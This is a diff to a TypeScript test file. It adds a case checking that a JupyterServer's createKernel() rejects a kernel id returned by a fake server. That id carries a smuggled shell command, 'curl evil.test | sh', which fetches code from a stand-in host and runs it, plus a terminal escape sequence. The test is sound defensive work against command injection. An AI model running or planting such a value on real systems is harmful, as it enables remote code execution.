@@ -104,6 +104,11 @@ describe('JupyterServer', () => {
       expected: 'from-head',
     },
     { name: 'the request', answer: { body: 'cut' }, expected: id },
+    {
+      name: 'the request when the body has none that could be pasted into a command',
+      answer: { body: { id: 'x; curl evil.test | sh #\u001b[2J' } },
+      expected: id,
+    },
   ])('createKernel() takes the id from $name', async ({ answer, expected }) => {
     await using jupyter = await FakeJupyter.start()
     jupyter.script('create', { status: 201, ...answer })
